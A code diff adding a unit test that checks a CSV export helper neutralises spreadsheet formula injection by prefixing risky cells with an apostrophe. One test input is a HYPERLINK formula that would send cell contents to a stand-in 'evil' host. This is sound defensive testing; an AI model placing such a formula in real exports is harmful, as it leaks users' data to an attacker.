@@ -14,6 +14,18 @@ describe('csv', () => {
     expect(csvField('1234.50')).toBe('1234.50');
   });
 
+  it("neutralises formulas: a cell starting with = + - @ tab or CR gets a leading '", () => {
+    expect(csvField('=HYPERLINK("https://evil/?d="&B2&C2,"x")')).toBe(`"'=HYPERLINK(""https://evil/?d=""&B2&C2,""x"")"`);
+    expect(csvField('+7 916 123-45-67')).toBe("'+7 916 123-45-67");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField(-5)).toBe("'-5");
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField("'quoted")).toBe("'quoted");
+  });
+
   it('writes a BOM, a header row and CRLF after every row', () => {
     expect(
       toCsv(
